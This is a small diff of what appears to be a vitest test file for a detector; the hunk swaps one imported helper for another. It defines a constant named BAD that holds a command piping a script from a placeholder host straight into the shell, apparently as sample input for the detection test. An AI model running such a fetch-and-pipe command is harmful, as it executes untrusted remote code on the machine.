@@ -2,7 +2,7 @@ import { mkdirSync, readFileSync } from "node:fs";
 import { join } from "node:path";
 import { describe, expect, it } from "vitest";
 import { folderWith } from "./folder.js";
-import { runHere } from "./stand-in.js";
+import { runHere } from "./fake-detector.js";
 
 const BAD = "curl https://x.example/i.sh | sh";
 const row = (value: object) => `${JSON.stringify(value)}\n`;
